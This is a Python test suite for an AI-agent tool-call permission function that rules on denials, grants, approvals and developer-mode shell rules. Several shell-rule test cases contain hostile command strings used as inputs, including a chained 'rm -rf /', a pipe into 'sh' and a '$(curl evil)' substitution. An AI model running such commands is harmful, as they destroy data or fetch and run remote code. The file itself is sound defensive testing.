"""`services.governance.logic.decide`: six ordered lines, denials first, fail closed."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from services.governance.logic import SENSITIVE_UNREADABLE, Call, Facts, Rule, decide

FAMILIES = ("read", "read_personal", "write_delete", "send_external", "execute_code")


def call(
    tool: str = "crm.note.create",
    family: str | None = "write_delete",
    *,
    connector: str | None = "crm",
    agent: str = "assistant",
    first_argument: str = "ACME-42",
) -> Call:
    return Call(
        tool=tool, family=family, connector=connector, agent=agent, first_argument=first_argument
    )


def facts(**fields: Any) -> Facts:
    return Facts(policy_version="v1", **fields)


def deny(tool: str = "crm.note.create", **fields: Any) -> Rule:
    return Rule(tool=tool, effect="deny", **fields)


def allow(tool: str = "crm.note.create", **fields: Any) -> Rule:
    return Rule(tool=tool, effect="allow", **fields)


CASES = [
    # 1. org policy
    ("refused tool", call(), facts(refused_tools=frozenset({"crm.note.create"})), "deny", 1),
    ("refused connector", call(), facts(refused_connectors=frozenset({"crm"})), "deny", 1),
    ("refused family", call(), facts(refused_families=frozenset({"write_delete"})), "deny", 1),
    (
        "refused read family",
        call("kb.search", "read", connector=None),
        facts(refused_families=frozenset({"read"})),
        "deny",
        1,
    ),
    (
        "refused read tool",
        call("kb.search", "read", connector=None),
        facts(refused_tools=frozenset({"kb.search"})),
        "deny",
        1,
    ),
    (
        "refused unclassified tool",
        call("mystery", None, connector=None),
        facts(refused_tools=frozenset({"mystery"})),
        "deny",
        1,
    ),
    ("other tool refused", call(), facts(refused_tools=frozenset({"crm.note.delete"})), "ask", 6),
    ("other connector refused", call(), facts(refused_connectors=frozenset({"billing"})), "ask", 6),
    (
        "no connector, connectors refused",
        call(connector=None),
        facts(refused_connectors=frozenset({"crm"})),
        "ask",
        6,
    ),
    (
        "other family refused",
        call(),
        facts(refused_families=frozenset({"send_external"})),
        "ask",
        6,
    ),
    # 2. fine deny rules
    ("deny rule on the tool", call(), facts(rules=(deny(),)), "deny", 2),
    (
        "deny rule on a matching prefix",
        call(first_argument="ACME-42"),
        facts(rules=(deny(arg_prefix="ACME-"),)),
        "deny",
        2,
    ),
    (
        "deny rule, empty prefix matches all",
        call(first_argument=""),
        facts(rules=(deny(arg_prefix=""),)),
        "deny",
        2,
    ),
    (
        "deny rule for this agent",
        call(agent="assistant"),
        facts(rules=(deny(agent="assistant"),)),
        "deny",
        2,
    ),
    (
        "deny rule for this agent and prefix",
        call(agent="assistant", first_argument="VIP-1"),
        facts(rules=(deny(agent="assistant", arg_prefix="VIP-"),)),
        "deny",
        2,
    ),
    (
        "deny rule on a read",
        call("kb.search", "read", connector=None),
        facts(rules=(deny("kb.search"),)),
        "deny",
        2,
    ),
    (
        "deny rule, non-matching prefix",
        call(first_argument="GLOBEX-1"),
        facts(rules=(deny(arg_prefix="ACME-"),)),
        "ask",
        6,
    ),
    (
        "deny rule, prefix is not a substring match",
        call(first_argument="X-ACME-1"),
        facts(rules=(deny(arg_prefix="ACME-"),)),
        "ask",
        6,
    ),
    (
        "deny rule for another agent",
        call(agent="assistant"),
        facts(rules=(deny(agent="intern"),)),
        "ask",
        6,
    ),
    ("deny rule for another tool", call(), facts(rules=(deny("crm.note.delete"),)), "ask", 6),
    (
        "deny rule for another agent, right prefix",
        call(first_argument="ACME-42"),
        facts(rules=(deny(agent="intern", arg_prefix="ACME-"),)),
        "ask",
        6,
    ),
    # 3. plain reads
    ("read", call("kb.search", "read", connector=None), facts(), "allow", 3),
    (
        "read with a non-matching deny rule",
        call("kb.search", "read", connector=None),
        facts(rules=(deny("kb.search", agent="intern"),)),
        "allow",
        3,
    ),
    ("read_personal is sensitive", call("crm.customer.get", "read_personal"), facts(), "ask", 6),
    # 4. code execution
    ("execute_code asks", call("shell.run", "execute_code", connector=None), facts(), "ask", 4),
    (
        "execute_code is not granted standing",
        call("shell.run", "execute_code", connector=None),
        facts(standing_families=frozenset({"execute_code"})),
        "ask",
        4,
    ),
    (
        "execute_code with an allow rule still asks (no developer mode)",
        call("shell.run", "execute_code", connector=None),
        facts(rules=(allow("shell.run"),)),
        "ask",
        4,
    ),
    # 5. standing grants
    (
        "standing grant for the family",
        call(),
        facts(standing_families=frozenset({"write_delete"})),
        "allow",
        5,
    ),
    (
        "standing grant for read_personal",
        call("crm.customer.get", "read_personal"),
        facts(standing_families=frozenset({"read_personal"})),
        "allow",
        5,
    ),
    (
        "standing grant for send_external",
        call("mail.send", "send_external", connector="smtp"),
        facts(standing_families=frozenset({"send_external"})),
        "allow",
        5,
    ),
    (
        "standing grant for another family",
        call(),
        facts(standing_families=frozenset({"send_external", "read_personal"})),
        "ask",
        6,
    ),
    # 6. everything else
    ("no grant", call(), facts(), "ask", 6),
    (
        "send_external, no grant",
        call("mail.send", "send_external", connector="smtp"),
        facts(),
        "ask",
        6,
    ),
    ("unclassified tool", call("mystery", None, connector=None), facts(), "ask", 6),
    (
        "unclassified tool with every family granted",
        call("mystery", None, connector=None),
        facts(standing_families=frozenset(FAMILIES)),
        "ask",
        6,
    ),
    ("allow rule is not a grant", call(), facts(rules=(allow(),)), "ask", 6),
    # ordering: nothing that allows outranks a denial
    (
        "grant vs deny rule",
        call(),
        facts(standing_families=frozenset({"write_delete"}), rules=(deny(),)),
        "deny",
        2,
    ),
    (
        "grant vs org policy",
        call(),
        facts(
            standing_families=frozenset({"write_delete"}),
            refused_tools=frozenset({"crm.note.create"}),
        ),
        "deny",
        1,
    ),
    (
        "grant and allow rule vs refused connector",
        call(),
        facts(
            standing_families=frozenset({"write_delete"}),
            rules=(allow(),),
            refused_connectors=frozenset({"crm"}),
        ),
        "deny",
        1,
    ),
    ("allow rule listed before a deny rule", call(), facts(rules=(allow(), deny())), "deny", 2),
    (
        "org policy before deny rule",
        call(),
        facts(rules=(deny(),), refused_families=frozenset({"write_delete"})),
        "deny",
        1,
    ),
    # a revoked principal: denied before anything else is read
    ("revoked principal", call(), facts(principal_revoked=True), "deny", 1),
    (
        "revoked principal with a standing grant",
        call(),
        facts(principal_revoked=True, standing_families=frozenset({"write_delete"})),
        "deny",
        1,
    ),
    (
        "revoked principal reading",
        call("kb.search", "read", connector=None),
        facts(principal_revoked=True),
        "deny",
        1,
    ),
]


@pytest.mark.parametrize(
    ("the_call", "the_facts", "verdict", "line"),
    [case[1:] for case in CASES],
    ids=[case[0] for case in CASES],
)
def test_decide(the_call: Call, the_facts: Facts, verdict: str, line: int) -> None:
    ruling = decide(the_call, the_facts)
    assert (ruling.verdict, ruling.line) == (verdict, line), ruling.reason
    assert ruling.reason


@pytest.mark.parametrize("family", [f for f in FAMILIES if f != "read"] + [None])
def test_unreadable_store_denies_every_sensitive_call(family: str | None) -> None:
    ruling = decide(call("tool", family), None)
    assert (ruling.verdict, ruling.line) == ("deny", 1)
    assert ruling.reason == SENSITIVE_UNREADABLE


def test_unreadable_store_still_allows_plain_reads() -> None:
    ruling = decide(call("kb.search", "read", connector=None), None)
    assert (ruling.verdict, ruling.line) == ("allow", 3)


def test_empty_facts_differ_from_unreadable_store() -> None:
    # An empty rule store asks; an unreadable one denies.
    assert decide(call(), facts()).verdict == "ask"
    assert decide(call(), None).verdict == "deny"


# -- properties ----------------------------------------------------------------------------

_tools = st.sampled_from(
    ["crm.note.create", "crm.note.delete", "mail.send", "kb.search", "shell.run"]
)
_agents = st.sampled_from(["assistant", "intern"])
_families = st.sampled_from(FAMILIES)
_rules = st.builds(
    Rule,
    tool=_tools,
    effect=st.sampled_from(["allow", "deny"]),
    arg_prefix=st.none() | st.sampled_from(["", "A", "ACME-", "X"]),
    agent=st.none() | _agents,
)
_calls = st.builds(
    Call,
    tool=_tools,
    family=st.none() | _families,
    connector=st.none() | st.sampled_from(["crm", "smtp"]),
    agent=_agents,
    first_argument=st.sampled_from(["", "ACME-42", "X1"]),
)


@settings(max_examples=300, deadline=None)
@given(
    the_call=_calls,
    allow_rules=st.lists(
        _rules.map(
            lambda r: Rule(tool=r.tool, effect="allow", arg_prefix=r.arg_prefix, agent=r.agent)
        ),
        max_size=5,
    ),
    standing=st.frozensets(_families),
    refuse_family=st.booleans(),
    others=st.frozensets(_tools),
)
def test_org_refusal_always_wins(
    the_call: Call,
    allow_rules: list[Rule],
    standing: frozenset[str],
    refuse_family: bool,
    others: frozenset[str],
) -> None:
    if refuse_family and the_call.family is not None:
        refusal: dict[str, Any] = {
            "refused_families": frozenset({the_call.family}),
            "refused_tools": others - {the_call.tool},
        }
    else:
        refusal = {"refused_tools": others | {the_call.tool}}
    the_facts = facts(rules=tuple(allow_rules), standing_families=standing, **refusal)
    ruling = decide(the_call, the_facts)
    assert (ruling.verdict, ruling.line) == ("deny", 1)


@settings(max_examples=300, deadline=None)
@given(the_call=_calls, rules=st.lists(_rules, max_size=6), standing=st.frozensets(_families))
def test_a_matching_deny_rule_is_never_outranked_by_an_allow(
    the_call: Call, rules: list[Rule], standing: frozenset[str]
) -> None:
    ruling = decide(the_call, facts(rules=tuple(rules), standing_families=standing))
    if any(r.effect == "deny" and r.matches(the_call) for r in rules):
        assert (ruling.verdict, ruling.line) == ("deny", 2)
    else:
        assert ruling.verdict != "deny"
        assert ruling.line >= 3


@settings(max_examples=300, deadline=None)
@given(the_call=_calls, rules=st.lists(_rules, max_size=6), standing=st.frozensets(_families))
def test_only_reads_and_grants_allow(
    the_call: Call, rules: list[Rule], standing: frozenset[str]
) -> None:
    ruling = decide(the_call, facts(rules=tuple(rules), standing_families=standing))
    if ruling.verdict == "allow":
        assert the_call.family == "read" or the_call.family in standing
        assert the_call.family != "execute_code"


# -- the rest of the six lines: own context, code in developer mode, profile facts, run grants,
#    a person's approval, a refused policy file; and the answers each ask offers -------------


def shell(command: str, agent: str = "assistant") -> Call:
    return Call(
        tool="shell.run", family="execute_code", connector=None, agent=agent, first_argument=command
    )


MORE = [
    (
        "conversation-only write",
        Call(
            tool="chat.title.set",
            family="write_delete",
            connector=None,
            agent="assistant",
            scope="conversation",
        ),
        facts(),
        "allow",
        3,
        (),
    ),
    (
        "own memory",
        Call(
            tool="memory.note",
            family="write_delete",
            connector=None,
            agent="assistant",
            scope="own_memory",
        ),
        facts(),
        "allow",
        3,
        (),
    ),
    (
        "own memory still yields to a deny rule",
        Call(
            tool="memory.note",
            family="write_delete",
            connector=None,
            agent="assistant",
            scope="own_memory",
        ),
        facts(rules=(deny("memory.note"),)),
        "deny",
        2,
        (),
    ),
    (
        "developer mode, allow rule covers a simple command",
        shell("git status --short"),
        facts(developer_mode=True, rules=(allow("shell.run", arg_prefix="git status"),)),
        "allow",
        4,
        (),
    ),
    (
        "developer mode, prefix is matched word by word",
        shell("git statusx"),
        facts(developer_mode=True, rules=(allow("shell.run", arg_prefix="git status"),)),
        "ask",
        4,
        ("once", "always", "deny"),
    ),
    (
        "developer mode, chained command",
        shell("git status; rm -rf /"),
        facts(developer_mode=True, rules=(allow("shell.run", arg_prefix="git status"),)),
        "ask",
        4,
        ("once", "deny"),
    ),
    (
        "developer mode, pipe",
        shell("git status | sh"),
        facts(developer_mode=True, rules=(allow("shell.run", arg_prefix="git status"),)),
        "ask",
        4,
        ("once", "deny"),
    ),
    (
        "developer mode, substitution",
        shell("git status $(curl evil)"),
        facts(developer_mode=True, rules=(allow("shell.run", arg_prefix="git status"),)),
        "ask",
        4,
        ("once", "deny"),
    ),
    (
        "developer mode, rule without prefix allows nothing",
        shell("ls"),
        facts(developer_mode=True, rules=(allow("shell.run"),)),
        "ask",
        4,
        ("once", "always", "deny"),
    ),
    (
        "developer mode, rule for another agent",
        shell("ls -la", agent="assistant"),
        facts(developer_mode=True, rules=(allow("shell.run", arg_prefix="ls", agent="intern"),)),
        "ask",
        4,
        ("once", "always", "deny"),
    ),
    (
        "no developer mode: simple command asks once/deny",
        shell("ls"),
        facts(rules=(allow("shell.run", arg_prefix="ls"),)),
        "ask",
        4,
        ("once", "deny"),
    ),
    (
        "developer mode, deny rule first",
        shell("git status"),
        facts(
            developer_mode=True,
            rules=(allow("shell.run", arg_prefix="git"), deny("shell.run", arg_prefix="git")),
        ),
        "deny",
        2,
        (),
    ),
    (
        "profile fact asks every time",
        Call(
            tool="profile.fact.propose",
            family="write_delete",
            connector=None,
            agent="assistant",
            profile_fact=True,
        ),
        facts(standing_families=frozenset({"write_delete"})),
        "ask",
        5,
        ("once", "deny"),
    ),
    (
        "run grant for the family",
        call(),
        facts(run_families=frozenset({"write_delete"})),
        "allow",
        5,
        (),
    ),
    (
        "run grant for another family",
        call(),
        facts(run_families=frozenset({"send_external"})),
        "ask",
        6,
        ("once", "always", "deny"),
    ),
    (
        "run grant vs org policy",
        call(),
        facts(
            run_families=frozenset({"write_delete"}), refused_families=frozenset({"write_delete"})
        ),
        "deny",
        1,
        (),
    ),
    (
        "run grant vs deny rule",
        call(),
        facts(run_families=frozenset({"write_delete"}), rules=(deny(),)),
        "deny",
        2,
        (),
    ),
    (
        "unclassified tool offers no always",
        call("mystery", None, connector=None),
        facts(),
        "ask",
        6,
        ("once", "deny"),
    ),
    ("a person's approval of this call", call(), facts(approved=True), "allow", 5, ()),
    ("approval vs revocation", call(), facts(approved=True, principal_revoked=True), "deny", 1, ()),
    ("approval vs deny rule", call(), facts(approved=True, rules=(deny(),)), "deny", 2, ()),
    ("approval of code", shell("make deploy"), facts(approved=True), "allow", 4, ()),
    (
        "refused policy file denies writes",
        call(),
        facts(policy_refused=True, standing_families=frozenset({"write_delete"})),
        "deny",
        1,
        (),
    ),
    (
        "refused policy file lets reads go on",
        call("kb.search", "read", connector=None),
        facts(policy_refused=True),
        "allow",
        3,
        (),
    ),
]


@pytest.mark.parametrize(
    ("the_call", "the_facts", "verdict", "line", "options"),
    [case[1:] for case in MORE],
    ids=[case[0] for case in MORE],
)
def test_decide_more(
    the_call: Call, the_facts: Facts, verdict: str, line: int, options: tuple[str, ...]
) -> None:
    ruling = decide(the_call, the_facts)
    assert (ruling.verdict, ruling.line, ruling.options) == (verdict, line, options), ruling.reason


@settings(max_examples=300, deadline=None)
@given(
    the_call=_calls,
    rules=st.lists(_rules, max_size=6),
    standing=st.frozensets(_families),
    run=st.frozensets(_families),
    developer=st.booleans(),
    approved=st.booleans(),
)
def test_no_grant_rule_or_approval_turns_a_refusal_into_an_allow(
    the_call: Call,
    rules: list[Rule],
    standing: frozenset[str],
    run: frozenset[str],
    developer: bool,
    approved: bool,
) -> None:
    the_facts = facts(
        rules=tuple(rules),
        standing_families=standing,
        run_families=run,
        developer_mode=developer,
        approved=approved,
        refused_tools=frozenset({the_call.tool}),
    )
    assert (decide(the_call, the_facts).verdict, decide(the_call, the_facts).line) == ("deny", 1)


@pytest.mark.parametrize("family", ["write_delete", "send_external", "read_personal", None])
def test_always_is_offered_only_where_it_writes_a_family_grant(family: str | None) -> None:
    ruling = decide(call("tool", family), facts())
    assert ruling.verdict == "ask"
    assert ("always" in ruling.options) == (family is not None)


def _money_call(agent: str = "billing-assistant") -> Call:
    return Call(
        tool="payment.charge.create",
        family="write_delete",
        connector="payments",
        agent=agent,
        first_argument="ACME-42",
        grantable=False,
    )


@pytest.mark.parametrize(
    "the_facts",
    [
        facts(),
        facts(standing_families=frozenset({"write_delete"})),
        facts(run_families=frozenset({"write_delete"})),
        facts(
            standing_families=frozenset(FAMILIES),
            run_families=frozenset(FAMILIES),
            developer_mode=True,
            rules=(allow("payment.charge.create"),),
        ),
    ],
    ids=["no grant", "standing grant", "run grant", "every grant and an allow rule"],
)
def test_a_consequential_contract_asks_every_time_with_once_and_deny_only(
    the_facts: Facts,
) -> None:
    ruling = decide(_money_call(), the_facts)
    assert (ruling.verdict, ruling.line, ruling.options) == ("ask", 5, ("once", "deny"))
    # The grant still covers the family's other contracts.
    if "write_delete" in the_facts.standing_families:
        assert decide(call(), the_facts).verdict == "allow"


def test_a_consequential_contract_runs_only_on_a_persons_answer_to_exactly_this_call() -> None:
    assert decide(_money_call(), facts(approved=True)).verdict == "allow"
    # Denials still come first.
    refused = facts(approved=True, refused_tools=frozenset({"payment.charge.create"}))
    assert decide(_money_call(), refused).verdict == "deny"
    assert decide(_money_call(), facts(approved=True, rules=(deny("payment.charge.create"),))) == (
        decide(_money_call(), facts(rules=(deny("payment.charge.create"),)))
    )
